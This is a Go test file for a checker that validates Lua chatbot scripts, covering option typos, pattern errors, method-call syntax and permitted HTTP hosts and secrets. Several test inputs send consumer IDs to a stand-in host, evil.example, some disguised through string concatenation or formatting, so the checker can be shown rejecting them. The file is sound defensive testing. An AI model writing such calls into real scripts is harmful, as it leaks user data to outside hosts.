package botscripts

import (
	"strings"
	"testing"
)

// TestCheckCalls: what a script passes to the host is held against the same reference and the same readers as at
// run time, before a consumer meets it.
func TestCheckCalls(t *testing.T) {
	t.Parallel()
	const settings = "id: acme\nname: Acme\ntime_zone: UTC\nlanguages: [en]\ndefault_skill: care\nskills: {care: {}}\n" +
		"http: {hosts: [api.acme.example, \"*.shop.example\"], secrets: {TOKEN: {value: \"${T}\", hosts: [api.acme.example]}}}\n" +
		"channels: {web: {kind: webchat, bot: main}}\n"
	for _, tt := range []struct{ call, want string }{
		// Options.
		{`chat:ask("x", { kind = "number", hnt = "y" })`, `chat:ask: options has no field "hnt"`},
		{`chat:ask("x", { kind = "intger" })`, `chat:ask: kind must be one of text, number, integer`},
		{`chat:ask("x", { timeout = "60" })`, `chat:ask: timeout must be a number, got a string`},
		{`chat:ask("x", { retries = true })`, `chat:ask: retries must be a number, got a boolean`},
		{`chat:ask(consumer.name, { escape = 1 })`, `chat:ask: escape must be a boolean, got a number`},
		{`chat:ask("x", { otherwise = "stop" })`, `otherwise must be`},
		{`chat:ask("x", { otherwise = { handoff = { skil = "care" } } })`, `otherwise.handoff has no field "skil"`},
		{`chat:ask("x", { "number" })`, `options takes named fields only`},
		{`chat:ask("x", { kind = "one_of", choices = { { id = "a", lable = "A" } } })`, `has no field "lable"`},
		{`chat:ask()`, `chat:ask: prompt is missing`},
		{`chat:handoff { skill = "care", facts = { a = {} } }`, `facts.a must be`},
		{`chat:handoff { expects = { a = "nmber" } }`, `expects.a must be one of`},
		{`chat:handoff { expects = { a = { kind = "text", requierd = true } } }`, `expects.a has no field "requierd"`},
		{`chat:say { text = "x", medias = {} }`, `has no field "medias"`},
		{`chat:say { text = "x", cards = { { titel = "A" } } }`, `has no field "titel"`},
		{`chat:form({ { name = "a", prompt = "A?", kind = "dat" } })`, `kind must be one of`},
		{`chat:form({ { prompt = "A?" } })`, `needs name`},
		{`chat:survey("ncp")`, `survey must be one of csat, stars, nps`},
		{`chat:choose("x", "A", {})`, `choices must be a list, got a string`},
		{`chat:run("main", {}) chat:run(1 > 2)`, `chat:run: bot must be a string, got a boolean`},
		{`chat:run()`, `chat:run: bot is missing`},
		{`require("schedule").after("soon", { name = "a" })`, `schedule.after: seconds must be a number`},
		{`require("schedule").after(5, { nme = "a" })`, `has no field "nme"`},
		{`require("store").set("k", 1, { tll = 5 })`, `has no field "tll"`},
		{`local text = chat.opening.text chat:ask(text, { kind = text and "dte" or "time" })`, `kind must be one of`},
		// What only the runtime knows.
		{`chat:ask("x", { kind = "number", min = 9, max = 1 })`, `min is greater than max`},
		{`chat:ask("x", { kind = "text", min = 9 })`, `min belongs to kind`},
		{`chat:ask("x", { match = "[" })`, `malformed pattern`},
		{`chat:ask("x" .. consumer.id, { kind = "pattern", pattern = "%" })`, `malformed pattern`},
		{`chat:ask("x", { kind = "one_of" })`, `kind one_of needs choices`},
		{`chat:ask("x", { retries = 99 })`, `retries must be between`},
		{`chat:choose("x", { "a", "a" })`, `chat:choose: `},
		{`require("http").get("https://api.acme.example/", { timeout = 99 })`, `timeout must be between`},
		{`("x"):match("[a")`, `malformed`},
		{`string.gsub("x", "%", "")`, `malformed`},
		{`local s = consumer.name s:find("(")`, `a ( in "(" is not closed`},
		{`local s = consumer.name s:gsub("x(%d+", "")`, `a ( in "x(%d+" is not closed`},
		{`chat:ask("x", { match = "no (%d+" })`, `a ( in "no (%d+" is not closed`},
		{`chat:form({ { name = "a", prompt = "A?", kind = "pattern", pattern = "a(b" } })`, `a ( in "a(b" is not closed`},
		// Dots and colons.
		{`chat.say("x")`, `chat.say is a method; write chat:say(…) with a colon`},
		{`consumer.history()`, `consumer.history is a method; write consumer:history(…) with a colon`},
		{`local faq = require "faq" faq:search("x")`, `faq.search is no method; write faq.search(…) with a dot`},
		{`string:upper("x")`, `string.upper is no method; write string.upper(…) with a dot`},
		{`require("store"):get("x")`, `store.get is no method; write .get(…) with a dot`},
		{`chat:say(consumer:name())`, `consumer.name is a value and no method; write consumer.name`},
		// Hosts and secrets.
		{`require("http").get("https://api.acme.exmple/x")`, `the brand's http.hosts do not list api.acme.exmple`},
		{`local http = require "http" http.post("https://evil.example/" .. consumer.id, {})`, `the brand's http.hosts do not list evil.example`},
		{`require("http").request { url = "https://evil.example" }`, `do not list evil.example`},
		{`require("http").get("http://api.acme.example/x")`, `is not encrypted; only https:// is allowed`},
		{`require("http").get("https://api.acme.example/", { secrets = { Authorization = "Bearer {TOKN}" } })`, `no secret "TOKN" under http.secrets; did you mean "TOKEN"?`},
		{`local BASE = "https://evil.example" require("http").get(BASE .. "/x")`, `do not list evil.example`},
		{`local HOST = "evil.example" local BASE = "https://" .. HOST require("http").request { url = BASE .. "/" .. consumer.id }`, `do not list evil.example`},
		{`local function f() local url = "https://evil.example" return require("http").get(url) end f()`, `do not list evil.example`},
		{`require("http").get(string.format("https://evil.example/%s", consumer.id))`, `do not list evil.example`},
		{`require("http").get(("https://evil.example/%s"):format(consumer.id))`, `do not list evil.example`},
		{`require("http").get("https://" .. "evil.example" .. "/" .. consumer.id)`, `do not list evil.example`},
		{`require("http").get("https://www.shop.example/", { secrets = { A = "{TOKEN}" } })`, `the hosts of the secret "TOKEN" do not list www.shop.example`},
		{`require("http").get("https://api.acme.example/", { headers = { Authorization = "Bearer {TOKEN}" } })`, `a header with a secret belongs in secrets`},
		{`require("http").get("https://api.acme.example/" .. consumer.id, { secrets = { A = "Bearer TOKEN" } })`, `secrets.A must hold the name of a secret`},
		// What is right.
		{`local url = "https://evil.example" url = "https://api.acme.example" require("http").get(url)`, ``},
		{`local url = "https://evil.example" local function f() return require("http").get(url .. "/x") end url = "https://api.acme.example" f()`, ``},
		{`local url = "https://evil.example" local function f(url) return require("http").get(url) end f("https://api.acme.example")`, ``},
		{`local BASE = "https://api.acme" require("http").get(BASE .. consumer.id)`, ``},
		{`require("http").get(string.format("https://%s/x", consumer.name))`, ``},
		{`require("http").get("https://api.acme.example/", { headers = { Data = '{"a":1}', B = "{name}" } })`, ``},
		{`do local chat = { say = tostring, shout = 1 } chat.say("x") chat.shout = 2 end`, ``},
		{`local http = { get = tostring } http:get("x") local s = "a" s.foo = s:upper()`, ``},
		{`("x"):match("[(]") ("x"):match("%(") ("x"):match("[]()]") ("x"):match("[^](]") ("x"):match("%b()") ("x"):match("()a(b(c))") ("x"):match("[%](]")`, ``},
		{`chat.say(chat, "x")`, ``},
		{`chat:ask("x", { kind = "date", min = "today", max = "+14", choices = { "tomorrow" } })`, ``},
		{`chat:ask("x", { otherwise = function(answer) return answer end })`, ``},
		{`chat:ask { text = "x", choices = { "a", { id = "b", label = "B" } } }`, ``},
		{`local options = { hnt = 1 } chat:say(tostring(options.hnt))`, ``},
		{`chat:ask(consumer.name or "you", { kind = "one_of", choices = chat.state.list })`, ``},
		{`local http = require "http" http.get("https://" .. consumer.name .. ".shop.example/")`, ``},
		{`require("http").get("https://api.acme.example/" .. consumer.id, { secrets = { A = "{TOKEN}" }, timeout = 3 })`, ``},
		{`require("http").get("https://www.shop.example")`, ``},
		{`local s = "a" s:find("[", 1, true)`, ``},
		{`chat:handoff { skill = "care", expects = { a = "text", b = { kind = "choice", choices = { "x" } } }, max_wait = 60, otherwise = "close" }`, ``},
		{`chat:list("x", { { title = "T", items = { "a", { label = "b" } } } })`, ``},
		{`chat:form({ { name = "a", prompt = "A?", kind = "integer", min = 1 } }, { known = { a = 1 }, confirm = "All right?" })`, ``},
		{`chat:say(5)`, ``},
		{`chat:say(table.concat({ "a", "b" }))`, ``},
	} {
		t.Run(tt.call, func(t *testing.T) {
			t.Parallel()
			got := checked(map[string]string{"brand.yaml": settings, "bots/main.lua": "return function(chat)\n  " + tt.call + "\nend"})
			switch {
			case tt.want == "" && len(got) == 0:
			case tt.want != "" && len(got) == 1 && strings.HasPrefix(got[0], "bots/main.lua:2: ") && strings.Contains(got[0], tt.want):
			default:
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}
